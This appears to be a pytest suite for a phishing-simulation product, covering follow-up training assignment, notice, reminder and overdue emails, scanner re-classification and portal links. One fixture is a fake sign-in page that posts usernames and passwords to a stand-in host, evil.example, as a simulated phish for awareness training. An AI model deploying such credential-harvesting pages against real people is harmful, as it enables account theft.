"""Training emails and automatic follow-up training (issue 5), against a real SMTP
server: a campaign's follow-up module assigned on a human click or submit (once per
campaign), the notice after follow_up_delay_seconds, the teaching page's link into the
portal, withdrawal when the triggering click is re-classified as automated, reminders
and overdue emails through the sending pipeline (fast-forwarded in the training_mail
table), the manager's copy, and nothing sent for completed, cancelled or unemailed
assignments."""

from __future__ import annotations

import csv
import html as htmllib
import io
import re
import time
from datetime import datetime, timezone

import pytest

from campaign_support import create_campaign, launch, make_template, smtp_profile
from harness import Server, expect, expect_error, uniq
from tracking_support import (
    HUMAN_ENV,
    PhishClient,
    classify,
    fresh_ip,
    message_parts,
    recipient_by_email,
    recipient_events,
    rid_of,
    wait_until,
)
from training_support import (
    ASSIGN,
    SLUG,
    assign,
    assignment,
    assignments,
    db_query,
    db_write,
    fast_forward,
    mail_rows,
    mails_to,
    make_people,
    module,
    nonce_of,
    portal_link,
    put_settings,
    right_form,
    text_of,
    to,
    wait_mail,
)

FORM_PAGE = ("<html><body><h1>Sign in</h1><form action=\"https://evil.example/login\">"
             "<input name=\"username\"><input type=\"password\" name=\"password\">"
             "</form></body></html>")


@pytest.fixture(scope="module")
def server():
    s = Server(name="pd-train-mail", extra_env=HUMAN_ENV)
    s.start()
    try:
        yield s
    finally:
        s.cleanup()


@pytest.fixture(scope="module")
def profile(api, sink):
    return smtp_profile(api, sink)


@pytest.fixture(scope="module")
def mod(api):
    return module(api)


def phish_campaign(api, sink, profile, n, trigger="clicked", page=None, due_days=7,
                   manager=None, follow_up=True) -> dict:
    """Launch a campaign (with a follow-up module unless follow_up=False) to n fresh
    people; wait until every simulated phish arrived.
    Returns {cid, people: [{id, email, rid, rcpt_id}]}."""
    g = make_people(api, n, manager=manager)
    tmpl = make_template(api)
    over = {"follow_up": {"module": SLUG, "trigger": trigger, "due_days": due_days}}
    if not follow_up:
        over = {}
    if page is not None:
        over["page_id"] = page["id"]
    c = create_campaign(api, [tmpl["id"]], [g["id"]], profile["id"], **over)
    launch(api, c["id"])
    rcpts = None
    for p in g["people"]:
        m = wait_mail(sink, to(p["email"]), 20, f"phish to {p['email']}")[0]
        parts = message_parts(m.msg)
        p["rid"] = rid_of(parts.get("text/plain") or parts["text/html"])
        p["client"] = PhishClient("http://unused.invalid", fresh_ip())

    def all_marked_sent():  # the recipients are marked sent just after the sink has the message
        rcpts = recipient_by_email(api, c["id"])
        return rcpts if all(rcpts.get(p["email"], {}).get("sent_at") for p in g["people"]) \
            else None

    rcpts = wait_until(all_marked_sent, 10, "every recipient marked sent")
    for p in g["people"]:
        p["rcpt_id"] = rcpts[p["email"]]["id"]
    return {"cid": c["id"], "people": g["people"], "group": g}


def click(server, p):
    r = p["client"].get(f"{server.phish_url}/", params={"rid": p["rid"]})
    assert r.status_code == 200, (r.status_code, r.text[:300])
    return r


def campaign_assignments(api, cid) -> list:
    return assignments(api, campaign_id=cid)


def wait_assignments(api, cid, n, timeout=5) -> list:
    """The campaign's assignments once there are n (the caller checks which), or as
    many as there are after timeout."""
    try:
        return wait_until(lambda: (lambda got: got if len(got) >= n else None)(
            campaign_assignments(api, cid)), timeout, f"{n} assignment(s)", interval=0.05)
    except AssertionError:
        return campaign_assignments(api, cid)


def wait_recorded(api, cid, p, kind, n=1) -> list:
    """p's events once n of `kind` are recorded. A hit's follow-up training is assigned
    or withdrawn in the transaction that records it, so this is the moment to check."""
    return wait_until(lambda: (lambda evs: evs if sum(e["kind"] == kind for e in evs) >= n
                               else None)(recipient_events(api, cid, p["rcpt_id"])),
                      10, f"{n} {kind} event(s) recorded")


def ts(text: str) -> float:
    return datetime.fromisoformat(text.replace("Z", "+00:00")).timestamp()


# --------------------------------------------------------------------------- follow-up


def test_click_assigns_once_notice_and_teaching_page_link(server, api, sink, profile, mod):
    # no profile in the settings: the campaign's own profile sends the notice
    put_settings(api, follow_up_delay_seconds=0)
    x = phish_campaign(api, sink, profile, 2, due_days=5)
    a, b = x["people"]
    page = click(server, a)
    clicked_at = time.time()
    got = wait_assignments(api, x["cid"], 1)
    assert len(got) == 1, got
    item = got[0]
    assert item["target"]["id"] == a["id"] and item["reason"] == "campaign", item
    assert item["campaign_id"] == x["cid"] and item["status"] == "assigned", item
    assert item["module"]["slug"] == SLUG, item
    assert abs(ts(item["due_at"]) - (clicked_at + 5 * 86400)) < 60, item

    # the teaching page leads to the portal
    m = re.search(r'href="([^"]*/learn/start\?rid=([^"&]+))"', page.text)
    assert m, page.text[:2000]
    assert htmllib.unescape(m.group(2)) == a["rid"], m.group(0)
    href = htmllib.unescape(m.group(1))
    start = a["client"].get(server.phish_url + href if href.startswith("/") else href,
                            allow_redirects=False)
    assert start.status_code == 303, (start.status_code, start.text[:300])
    loc = start.headers["Location"]
    assert re.fullmatch(r"(https?://[^/]+)?/learn/[A-Za-z0-9_-]{16,128}", loc), loc
    home = a["client"].get(loc if loc.startswith("http") else server.phish_url + loc)
    assert home.status_code == 200 and mod["title"] in htmllib.unescape(home.text), home.text[:500]
    assert home.headers.get("Cache-Control") == "no-store"
    # B has nothing to do
    r = b["client"].get(f"{server.phish_url}/learn/start", params={"rid": b["rid"]})
    assert r.status_code == 200 and "no training" in r.text.lower(), (r.status_code, r.text[:300])

    # clicking again and submitting: still one assignment
    click(server, a)
    r = a["client"].post(f"{server.phish_url}/", params={"rid": a["rid"]},
                         data={"username": "a"})
    assert r.status_code in (200, 303), r.status_code
    wait_recorded(api, x["cid"], a, "submitted")
    assert [i["id"] for i in campaign_assignments(api, x["cid"])] == [item["id"]]

    # the notice: to A only, module title in the subject, due date and personal link
    notice = wait_mail(sink, to(a["email"], "Training for you:"), 15, "notice")
    assert len(notice) == 1, notice
    n = notice[0]
    assert n.rcpt_tos == [a["email"]] and mod["title"] in str(n.msg["Subject"]), n
    body = text_of(n)
    due = datetime.fromtimestamp(ts(item["due_at"]), timezone.utc)
    assert f"{due.day} {due.strftime('%B %Y')}" in body, body
    assert "practice phishing email" in body, body
    link, _ = portal_link(n)
    assert link.startswith(server.phish_url + "/learn/"), link
    r = a["client"].get(f"{link}/{item['id']}")
    assert r.status_code == 200, r.text[:300]
    assert not mails_to(sink, b["email"], "Training for you:")
    assert assignments(api, target_id=b["id"]) == []
    csv_text = api.get("/api/v1/training/report.csv", params={"group_id": x["group"]["id"]}).text
    rows = list(csv.DictReader(io.StringIO(csv_text)))
    assert len(rows) == 1, rows
    assert (rows[0]["email"], rows[0]["reason"], rows[0]["campaign_id"]) == \
        (a["email"], "campaign", str(x["cid"])), rows


def test_submit_trigger_click_alone_does_not_assign(server, api, sink, profile, mod):
    put_settings(api, profile_id=profile["id"], follow_up_delay_seconds=0)
    page = expect(api.post("/api/v1/pages", json={"name": uniq("page"), "html": FORM_PAGE,
                                                  "capture": "fields", "redirect_url": ""}), 201)
    x = phish_campaign(api, sink, profile, 2, trigger="submitted", page=page)
    a, b = x["people"]
    r = click(server, a)
    assert "<form" in r.text.lower(), r.text[:500]
    click(server, b)
    wait_recorded(api, x["cid"], a, "clicked")
    wait_recorded(api, x["cid"], b, "clicked")
    assert campaign_assignments(api, x["cid"]) == []
    r = a["client"].post(f"{server.phish_url}/", params={"rid": a["rid"]},
                         data={"username": "alice", "password": "not-stored-1"})
    assert r.status_code in (200, 303), (r.status_code, r.text[:300])
    got = wait_assignments(api, x["cid"], 1)
    assert len(got) == 1 and got[0]["target"]["id"] == a["id"], got
    assert got[0]["reason"] == "campaign" and got[0]["campaign_id"] == x["cid"], got
    # a second submit does not assign again
    a["client"].post(f"{server.phish_url}/", params={"rid": a["rid"]}, data={"username": "a"})
    wait_recorded(api, x["cid"], a, "submitted", 2)
    assert len(campaign_assignments(api, x["cid"])) == 1
    wait_mail(sink, to(a["email"], "Training for you:"), 15, "notice after submit")
    assert not mails_to(sink, b["email"], "Training for you:")
    # both submits re-classified as automated: the (unstarted) assignment is withdrawn
    subs = [e for e in recipient_events(api, x["cid"], a["rcpt_id"]) if e["kind"] == "submitted"]
    assert len(subs) == 2, subs
    for e in subs:
        expect(classify(api, x["cid"], e["id"], True), 200)
    got = assignment(api, got[0]["id"])
    assert got["status"] == "cancelled" and "automated" in got["cancel_reason"], got


def test_reclassified_click_withdraws_unstarted_assignment_and_its_notice(
        server, api, sink, profile, mod):
    delay = 5
    put_settings(api, profile_id=profile["id"], follow_up_delay_seconds=delay)
    x = phish_campaign(api, sink, profile, 3)
    a, b, c = x["people"]
    for p in (a, b, c):
        click(server, p)
    t0 = time.monotonic()
    got = {i["target"]["id"]: i for i in wait_assignments(api, x["cid"], 3)}
    assert set(got) == {a["id"], b["id"], c["id"]}, got
    # B starts the training at once through the teaching page's link
    r = b["client"].get(f"{server.phish_url}/learn/start", params={"rid": b["rid"]},
                        allow_redirects=False)
    assert r.status_code == 303, r.status_code
    home = server.phish_url + r.headers["Location"]
    r = b["client"].get(f"{home}/{got[b['id']]['id']}/lesson/1")
    assert r.status_code == 200, r.text[:300]
    assert assignment(api, got[b["id"]]["id"])["status"] == "in_progress"

    # A's and B's clicks were a scanner after all; C's assignment is cancelled by hand
    for p in (a, b):
        ev = [e for e in recipient_events(api, x["cid"], p["rcpt_id"]) if e["kind"] == "clicked"]
        assert len(ev) == 1, ev
        expect(classify(api, x["cid"], ev[0]["id"], True), 200)
    expect(api.post(f"{ASSIGN}/{got[c['id']]['id']}/cancel"), 200)
    assert time.monotonic() - t0 < delay - 1, "too slow to beat the notice delay"

    wa = assignment(api, got[a["id"]]["id"])
    assert wa["status"] == "cancelled", wa
    assert "automated" in (wa["cancel_reason"] or ""), wa
    assert all(r["state"] == "cancelled" for r in mail_rows(server, wa["id"])), \
        mail_rows(server, wa["id"])
    wb = assignment(api, got[b["id"]]["id"])
    assert wb["status"] == "in_progress", wb  # started: kept
    assert all(r["state"] == "cancelled" for r in mail_rows(server, got[c["id"]]["id"]))

    # B's notice goes after the delay; A's and C's never
    wait_mail(sink, to(b["email"], "Training for you:"), delay + 10, "B's notice")

    def withdrawn():
        return mail_rows(server, wa["id"]) + mail_rows(server, got[c["id"]]["id"])
    notices = [r for r in withdrawn() if r["kind"] == "assigned"]
    _sent_after(server, api, sink, max(r["send_at"] for r in notices))
    assert all(r["state"] == "cancelled" for r in withdrawn()), withdrawn()
    assert not mails_to(sink, a["email"], "Training for you:")
    assert not mails_to(sink, c["email"], "Training for you:")
    # re-classifying back to human never leaves two open assignments for this campaign
    ev = [e for e in recipient_events(api, x["cid"], a["rcpt_id"]) if e["kind"] == "clicked"][0]
    expect(classify(api, x["cid"], ev["id"], False), 200)  # re-assigns before it answers
    mine = assignments(api, campaign_id=x["cid"], target_id=a["id"])
    assert len([m for m in mine if m["status"] in ("assigned", "in_progress")]) <= 1, mine


def test_scanner_click_assigns_nothing_until_reclassified_human(server, api, sink, profile, mod):
    put_settings(api, profile_id=profile["id"], follow_up_delay_seconds=0)
    x = phish_campaign(api, sink, profile, 1)
    [a] = x["people"]
    scanner = PhishClient("http://unused.invalid", fresh_ip(), ua="curl/8.0")
    r = scanner.get(f"{server.phish_url}/", params={"rid": a["rid"]})
    assert r.status_code == 200
    wait_recorded(api, x["cid"], a, "clicked")
    assert campaign_assignments(api, x["cid"]) == []
    r = scanner.get(f"{server.phish_url}/learn/start", params={"rid": a["rid"]},
                    allow_redirects=False)
    assert r.status_code == 200 and "no training" in r.text.lower(), r.status_code
    ev = [e for e in recipient_events(api, x["cid"], a["rcpt_id"]) if e["kind"] == "clicked"]
    assert len(ev) == 1 and ev[0]["automated"] is True, ev
    expect(classify(api, x["cid"], ev[0]["id"], False), 200)
    got = wait_assignments(api, x["cid"], 1)
    assert len(got) == 1 and got[0]["target"]["id"] == a["id"], got
    assert got[0]["reason"] == "campaign" and got[0]["status"] == "assigned", got
    wait_mail(sink, to(a["email"], "Training for you:"), 15, "notice after reclassification")


def test_colleagues_clicking_behind_one_address_keep_their_follow_up(server, api, sink,
                                                                     profile, mod):
    """Regression (#10, finding 13): five colleagues behind one office address clicking
    within seconds were all marked a scanner and lost their follow-up training. An address
    pattern alone only flags them suspect: every one of them is assigned."""
    put_settings(api, profile_id=profile["id"], follow_up_delay_seconds=0)
    x = phish_campaign(api, sink, profile, 5)
    ip = fresh_ip()
    for p in x["people"]:
        r = PhishClient("http://unused.invalid", ip).get(f"{server.phish_url}/",
                                                         params={"rid": p["rid"]})
        assert r.status_code == 200
    got = wait_assignments(api, x["cid"], 5)
    assert sorted(a["status"] for a in got) == ["assigned"] * 5, got
    for p in x["people"]:
        wait_mail(sink, to(p["email"], "Training for you:"), 15, "follow-up notice")
    assert all(a["status"] == "assigned" for a in campaign_assignments(api, x["cid"]))


def test_real_click_after_a_withdrawn_scanner_click_still_assigns(server, api, sink, profile,
                                                                  mod):
    """The scanner's clicks were withdrawn; when the person then really clicks, they are
    assigned the follow-up (the withdrawn assignment must not count as "once per campaign")."""
    put_settings(api, profile_id=profile["id"], follow_up_delay_seconds=0)
    x = phish_campaign(api, sink, profile, 5)
    ip = fresh_ip()
    for p in x["people"]:  # a sandbox opens each link, then follows its hidden decoy
        scanner = PhishClient("http://unused.invalid", ip)
        scanner.get(f"{server.phish_url}/", params={"rid": p["rid"]})
        scanner.get(f"{server.phish_url}/r", params={"rid": p["rid"]})
    for p in x["people"]:  # the decoy hit marks the clicks automated as it is recorded
        wait_until(lambda: all(e["automated"] for e in wait_recorded(api, x["cid"], p, "clicked")
                               if e["kind"] == "clicked"), 10, "the scanner's click marked")
    assert all(a["status"] == "cancelled" for a in campaign_assignments(api, x["cid"]))
    a = x["people"][0]
    click(server, a)  # the person, from their own address
    evs = wait_recorded(api, x["cid"], a, "clicked", 2)
    assert [e["automated"] for e in evs if e["kind"] == "clicked"].count(False) == 1, evs
    mine = assignments(api, campaign_id=x["cid"], target_id=a["id"])
    open_ = [m for m in mine if m["status"] in ("assigned", "in_progress")]
    assert len(open_) == 1, [(m["id"], m["status"], m["cancel_reason"]) for m in mine]


# --------------------------------------------------------------------------- reminders


def test_reminder_and_overdue_with_manager_copy_then_completion_stops_mail(
        server, api, sink, profile, mod):
    manager = f"boss@{uniq('mgr')}.example.test"
    put_settings(api, profile_id=profile["id"], remind_days_before=2, overdue_every_days=3,
                 max_overdue_reminders=2, cc_manager_when_overdue=True)
    g = make_people(api, 1, manager=manager)
    p = g["people"][0]
    out = assign(api, target_ids=[p["id"]], days=10)
    assert out == {"created": 1, "already_assigned": 0, "emailed": True}, out
    aid = assignments(api, target_id=p["id"])[0]["id"]
    first = wait_mail(sink, to(p["email"], "Training for you:"), 15, "assigned notice")[0]
    link0, token0 = portal_link(first)
    assert "security team has asked you" in text_of(first), text_of(first)
    rows = mail_rows(server, aid)
    assert [r["kind"] for r in rows] == ["assigned", "reminder", "overdue", "overdue"], rows
    due = ts(assignment(api, aid)["due_at"])
    assert rows[1]["send_at"] == int(due) - 2 * 86400, rows
    assert rows[2]["send_at"] == int(due) + 3600, rows
    assert rows[3]["send_at"] == int(due) + 3600 + 3 * 86400, rows
    assert rows[0]["state"] == "sent" and all(r["state"] == "queued" for r in rows[1:]), rows
    assert not mails_to(sink, manager)

    # the reminder
    fast_forward(server, rows[1]["id"])
    rem = wait_mail(sink, to(p["email"], "Reminder:"), 15, "reminder")
    assert len(rem) == 1 and mod["title"] in str(rem[0].msg["Subject"]), rem
    assert rem[0].rcpt_tos == [p["email"]] and rem[0].msg["Cc"] is None, rem[0].msg
    link1, token1 = portal_link(rem[0])
    assert token1 != token0
    r = PhishClient("http://unused.invalid", fresh_ip()).get(f"{link1}/{aid}")
    assert r.status_code == 200, r.text[:300]
    _wait_reminders_sent(api, aid, 1)
    assert not mails_to(sink, manager)

    # the first overdue email; the manager gets a notice of their own
    fast_forward(server, rows[2]["id"])
    over = wait_mail(sink, to(p["email"], "Overdue:"), 15, "overdue")
    assert len(over) == 1 and mod["title"] in str(over[0].msg["Subject"]), over
    assert over[0].msg["Cc"] is None, over[0].msg
    assert "Your manager has been told" in message_parts(over[0].msg)["text/plain"]
    notice = wait_mail(sink, to(manager), 15, "manager notice")
    assert len(notice) == 1 and notice[0].rcpt_tos == [manager], notice
    assert str(notice[0].msg["Subject"]).startswith("Overdue training:"), notice[0].msg["Subject"]
    assert manager in str(notice[0].msg["To"]), notice[0].msg["To"]
    assert mod["title"] in str(notice[0].msg["Subject"])
    assert "/learn/" not in notice[0].raw.decode("utf-8", "replace")
    link2, token2 = portal_link(over[0])
    assert len({token0, token1, token2}) == 3
    _wait_reminders_sent(api, aid, 2)
    assert assignment(api, aid)["reminders_sent"] == 2

    # every link still works; completing withdraws the last overdue email
    b = PhishClient("http://unused.invalid", fresh_ip())
    for link in (link0, link1, link2):
        assert b.get(link).status_code == 200
    q = b.get(f"{link2}/{aid}/quiz")
    r = b.post(f"{link2}/{aid}/quiz", data=right_form(mod, nonce_of(q.text)))
    assert r.status_code == 200, r.text[:300]
    assert assignment(api, aid)["status"] == "completed"
    rows = mail_rows(server, aid)
    assert [r["state"] for r in rows] == ["sent", "sent", "sent", "cancelled"], rows
    def to_them():  # other tests' mail may still arrive in the shared sink
        return [m for m in sink.messages() if p["email"] in m.rcpt_tos]

    n = len(to_them())
    _force_send_at(server, rows[3]["id"])
    _sent_after(server, api, sink, 0)
    assert mail_rows(server, aid)[3]["state"] == "cancelled", mail_rows(server, aid)
    assert len(to_them()) == n, to_them()[n:]
    assert assignment(api, aid)["reminders_sent"] == 2


def test_cancelled_assignment_sends_nothing_more(server, api, sink, profile):
    put_settings(api, profile_id=profile["id"], remind_days_before=1, max_overdue_reminders=1)
    g = make_people(api, 1)
    p = g["people"][0]
    assign(api, target_ids=[p["id"]], days=5)
    aid = assignments(api, target_id=p["id"])[0]["id"]
    wait_mail(sink, to(p["email"], "Training for you:"), 15, "notice")
    rows = mail_rows(server, aid)
    assert [r["kind"] for r in rows] == ["assigned", "reminder", "overdue"], rows
    expect(api.post(f"{ASSIGN}/{aid}/cancel"), 200)
    rows = mail_rows(server, aid)
    assert [r["state"] for r in rows] == ["sent", "cancelled", "cancelled"], rows
    for r in rows[1:]:
        _force_send_at(server, r["id"])
    _sent_after(server, api, sink, 0)
    rows = mail_rows(server, aid)
    assert [r["state"] for r in rows] == ["sent", "cancelled", "cancelled"], rows
    assert not mails_to(sink, p["email"], "Reminder:")
    assert not mails_to(sink, p["email"], "Overdue:")


def test_remind_now_sends_a_reminder_with_a_fresh_link(server, api, sink, profile):
    put_settings(api, profile_id=profile["id"], remind_days_before=0, max_overdue_reminders=0)
    g = make_people(api, 2)
    p, q = g["people"]
    assign(api, target_ids=[p["id"]], days=5)
    aid = assignments(api, target_id=p["id"])[0]["id"]
    notice = wait_mail(sink, to(p["email"], "Training for you:"), 15, "notice")
    _, token0 = portal_link(notice[0])
    r = expect(api.post(f"{ASSIGN}/{aid}/remind"), 202)
    assert r == {"queued": True}
    reminder = wait_mail(sink, to(p["email"], "Reminder:"), 15, "reminder on demand")
    _, token1 = portal_link(reminder[0])
    assert token1 != token0
    _wait_reminders_sent(api, aid, 1)
    kinds = [(e["kind"], e["state"]) for e in assignment(api, aid)["emails"]]
    assert kinds == [("assigned", "sent"), ("reminder", "sent")], kinds
    # operators only; nothing to remind about once cancelled; unknown id
    viewer = server.user_session(api, "viewer")
    expect_error(viewer.post(f"{ASSIGN}/{aid}/remind"), 403)
    expect(api.post(f"{ASSIGN}/{aid}/cancel"), 200)
    expect_error(api.post(f"{ASSIGN}/{aid}/remind"), 409, "conflict")
    expect_error(api.post(f"{ASSIGN}/999999/remind"), 404)
    # an assignment made without a training relay cannot send one
    put_settings(api)
    assign(api, target_ids=[q["id"]], days=5)
    qid = assignments(api, target_id=q["id"])[0]["id"]
    err = expect_error(api.post(f"{ASSIGN}/{qid}/remind"), 409, "conflict")
    assert "sending profile" in err["message"], err


def test_no_profile_no_email_for_manual_assignments(server, api, sink, profile):
    put_settings(api)  # profile_id null
    g = make_people(api, 2)
    p = g["people"][0]
    out = assign(api, target_ids=[p["id"]])
    assert out == {"created": 1, "already_assigned": 0, "emailed": False}, out
    aid = assignments(api, target_id=p["id"])[0]["id"]
    assert mail_rows(server, aid) == []  # nothing to send, ever
    # with a profile the next assignment is emailed
    put_settings(api, profile_id=profile["id"])
    q = g["people"][1]
    assert assign(api, target_ids=[q["id"]])["emailed"] is True
    wait_mail(sink, to(q["email"], "Training for you:"), 15, "notice with profile")
    assert not mails_to(sink, p["email"])


def test_mail_plan_follows_settings(server, api, sink, profile):
    g = make_people(api, 3)
    p0, p1, p2 = g["people"]
    put_settings(api, profile_id=profile["id"], remind_days_before=0, max_overdue_reminders=0)
    assign(api, target_ids=[p0["id"]], days=10)
    put_settings(api, profile_id=profile["id"], remind_days_before=3, max_overdue_reminders=1)
    assign(api, target_ids=[p1["id"]], days=2)  # too soon for a reminder 3 days before
    put_settings(api, profile_id=profile["id"], remind_days_before=1, max_overdue_reminders=5,
                 overdue_every_days=7)
    assign(api, target_ids=[p2["id"]], days=3)
    kinds = {}
    for p in (p0, p1, p2):
        aid = assignments(api, target_id=p["id"])[0]["id"]
        kinds[p["id"]] = [r["kind"] for r in mail_rows(server, aid)]
        if p is p2:
            rows = mail_rows(server, aid)
            due = int(ts(assignment(api, aid)["due_at"]))
            assert [r["send_at"] - due for r in rows[2:]] == \
                [3600 + k * 7 * 86400 for k in range(5)], rows
    assert kinds[p0["id"]] == ["assigned"], kinds
    assert kinds[p1["id"]] == ["assigned", "overdue"], kinds
    assert kinds[p2["id"]] == ["assigned", "reminder"] + ["overdue"] * 5, kinds
    put_settings(api, profile_id=profile["id"])


def test_portal_base_url_setting_used_in_links(server, api, sink, profile):
    put_settings(api, profile_id=profile["id"], portal_base_url="https://learn.example.test/")
    try:
        p = make_people(api, 1)["people"][0]
        assign(api, target_ids=[p["id"]])
        m = wait_mail(sink, to(p["email"], "Training for you:"), 15, "notice")[0]
        link, _ = portal_link(m)
        assert link.startswith("https://learn.example.test/learn/"), link
    finally:
        put_settings(api, profile_id=profile["id"])


def test_link_lifetime_follows_settings(server, api, sink, profile):
    put_settings(api, profile_id=profile["id"], link_valid_days=2)
    try:
        p = make_people(api, 1)["people"][0]
        assign(api, target_ids=[p["id"]])
        m = wait_mail(sink, to(p["email"], "Training for you:"), 15, "notice")[0]
        _, token = portal_link(m)
        from training_support import sha256_hex
        row = db_query(server, "SELECT expires_at - created_at, expires_at FROM portal_links "
                       "WHERE token_hash = ?", (sha256_hex(token),))
        assert row and row[0][0] == 2 * 86400, row
        until = datetime.fromtimestamp(row[0][1], timezone.utc)
        assert f"works until {until.strftime('%A')} {until.day} {until.strftime('%B %Y')}" \
            in " ".join(text_of(m).split()), text_of(m)
    finally:
        put_settings(api, profile_id=profile["id"])


def test_manager_copy_does_not_hand_over_the_personal_link(server, api, sink, profile, mod):
    manager = f"chief@{uniq('mgr')}.example.test"
    put_settings(api, profile_id=profile["id"], cc_manager_when_overdue=True,
                 max_overdue_reminders=1, remind_days_before=0)
    try:
        p = make_people(api, 1, manager=manager)["people"][0]
        assign(api, target_ids=[p["id"]], days=3)
        aid = assignments(api, target_id=p["id"])[0]["id"]
        wait_mail(sink, to(p["email"], "Training for you:"), 15, "notice")
        over = [r for r in mail_rows(server, aid) if r["kind"] == "overdue"]
        fast_forward(server, over[0]["id"])
        copy = wait_mail(sink, to(manager), 15, "manager copy")[0]
        links = re.findall(r"https?://\S+/learn/[A-Za-z0-9_-]{16,}", text_of(copy))
        for link in links:
            r = PhishClient("http://unused.invalid", fresh_ip()).get(f"{link}/{aid}/quiz")
            assert r.status_code != 200, f"the manager's copy opens the person's quiz: {link}"
    finally:
        put_settings(api, profile_id=profile["id"])


def test_rejected_and_deferred_training_mail(server, api, make_sink):
    g = make_people(api, 3)
    bad, slow, good = (t["email"] for t in g["people"])
    odd = make_sink(reject_rcpt=[bad], defer_rcpt_for=[slow], defer_rcpt=1)
    prof = smtp_profile(api, odd)
    put_settings(api, profile_id=prof["id"], remind_days_before=0, max_overdue_reminders=0)
    try:
        assign(api, group_ids=[g["id"]])
        wait_mail(odd, to(good), 15, "the deliverable notice")
        ids = {a["target"]["email"]: a["id"] for a in assignments(api, group_id=g["id"])}

        def settled():
            rows = {e: db_query(server, "SELECT state, send_at, last_error FROM training_mail "
                                "WHERE assignment_id = ?", (ids[e],))[0] for e in ids}
            return rows if rows[bad][0] == "failed" and rows[slow][2] else None

        rows = wait_until(settled, 10, "the refused notice failed and the deferred one retried")
        assert rows[good][0] == "sent", rows
        assert rows[bad][0] == "failed" and "550" in rows[bad][2], rows
        assert rows[slow][0] == "queued" and "451" in rows[slow][2], rows  # deferred, retried
        assert assignment(api, ids[bad])["reminders_sent"] == 0
    finally:
        put_settings(api)


# --------------------------------------------------------------------------- helpers


def _wait_reminders_sent(api, aid, n, timeout=10):
    got = wait_until(lambda: (lambda k: k if k >= n else None)(
        assignment(api, aid)["reminders_sent"]), timeout, f"{n} reminder(s) counted",
        interval=0.05)
    assert got == n, (got, n)


def _sent_after(server, api, sink, send_at):
    """The positive signal for "a row due at send_at was not sent": a fresh person's
    reminder, forced due just after send_at, arrives. The workers claim due mail one row
    at a time in send_at order, in serialised transactions, and a claim marks the row
    'sending' - so once this one is sent, every row due at send_at that was claimable
    has left 'queued'/'cancelled' (the caller checks its state) and is being sent."""
    q = make_people(api, 1)["people"][0]
    assign(api, target_ids=[q["id"]], days=10)
    qid = assignments(api, target_id=q["id"])[0]["id"]
    wait_mail(sink, to(q["email"], "Training for you:"), 15, "the probe's notice")
    [reminder] = [r for r in mail_rows(server, qid) if r["kind"] == "reminder"]
    assert db_write(server, "UPDATE training_mail SET send_at = ? WHERE id = ? AND "
                    "state = 'queued'", (send_at + 1, reminder["id"])) == 1
    wait_mail(sink, to(q["email"], "Reminder:"), 15, "the probe's reminder")


def _force_send_at(server, mail_id):
    """send_at = 0 whatever the state (a cancelled row must stay unsent anyway)."""
    db_write(server, "UPDATE training_mail SET send_at = 0 WHERE id = ?", (mail_id,))
    assert db_query(server, "SELECT send_at FROM training_mail WHERE id = ?", (mail_id,))[0][0] == 0


# --------------------------------------------------------------------------- /learn/start


def portal_links_of(server, target_id: int) -> int:
    return db_query(server, "SELECT COUNT(*) FROM portal_links WHERE target_id = ?",
                    (target_id,))[0][0]


def test_start_without_follow_up_mints_nothing(server, api, sink, profile, mod):
    put_settings(api, profile_id=None, follow_up_delay_seconds=0)
    x = phish_campaign(api, sink, profile, 1, follow_up=False)
    [a] = x["people"]
    assign(api, target_ids=[a["id"]])  # open training exists, but not from this campaign
    click(server, a)
    before = portal_links_of(server, a["id"])
    for _ in range(3):
        r = a["client"].get(f"{server.phish_url}/learn/start", params={"rid": a["rid"]},
                            allow_redirects=False)
        assert r.status_code == 404 and "not valid" in r.text, (r.status_code, r.text[:300])
    assert portal_links_of(server, a["id"]) == before


def test_repeated_start_keeps_one_live_link(server, api, sink, profile, mod):
    put_settings(api, profile_id=None, follow_up_delay_seconds=3600)  # no notice meanwhile
    x = phish_campaign(api, sink, profile, 1)
    [a] = x["people"]
    click(server, a)
    [item] = wait_assignments(api, x["cid"], 1)
    before = portal_links_of(server, a["id"])
    links = []
    for _ in range(3):
        r = a["client"].get(f"{server.phish_url}/learn/start", params={"rid": a["rid"]},
                            allow_redirects=False)
        assert r.status_code == 303, (r.status_code, r.text[:300])
        links.append(server.phish_url + r.headers["Location"])
        assert portal_links_of(server, a["id"]) == before + 1
        assert db_query(server, "SELECT COUNT(*) FROM portal_links WHERE assignment_id = ?",
                        (item["id"],))[0][0] == 1
    assert len(set(links)) == 3, links
    for old in links[:-1]:
        assert a["client"].get(old).status_code != 200, old
    r = a["client"].get(f"{links[-1]}/{item['id']}")
    assert r.status_code == 200, r.text[:300]


def test_start_is_rate_limited_per_address(server, api, sink, profile, mod):
    x = phish_campaign(api, sink, profile, 1, follow_up=False)
    [a] = x["people"]
    statuses = [a["client"].get(f"{server.phish_url}/learn/start", params={"rid": a["rid"]},
                                allow_redirects=False).status_code for _ in range(12)]
    assert 429 in statuses, statuses
    r = a["client"].get(f"{server.phish_url}/learn/start", params={"rid": a["rid"]})
    assert r.status_code == 429 and r.headers.get("Retry-After"), r.status_code
    # Another address is not held back.
    other = PhishClient("http://unused.invalid", fresh_ip())
    r = other.get(f"{server.phish_url}/learn/start", params={"rid": a["rid"]},
                  allow_redirects=False)
    assert r.status_code == 404, r.status_code
